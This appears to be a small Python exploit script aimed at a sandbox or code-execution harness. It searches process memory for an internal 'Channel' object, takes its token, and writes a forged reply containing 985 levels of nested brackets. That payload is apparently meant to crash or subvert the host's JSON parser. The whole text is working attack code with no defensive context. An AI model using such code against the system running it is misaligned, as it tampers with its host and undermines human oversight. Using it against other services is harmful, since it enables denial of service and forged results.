import gc

channel = next(each for each in gc.get_objects() if type(each).__name__ == "Channel")
channel.replies.write('{"token": "%s", "value": %s}\n' % (channel.token, "[" * 985 + "]" * 985))
channel.replies.flush()
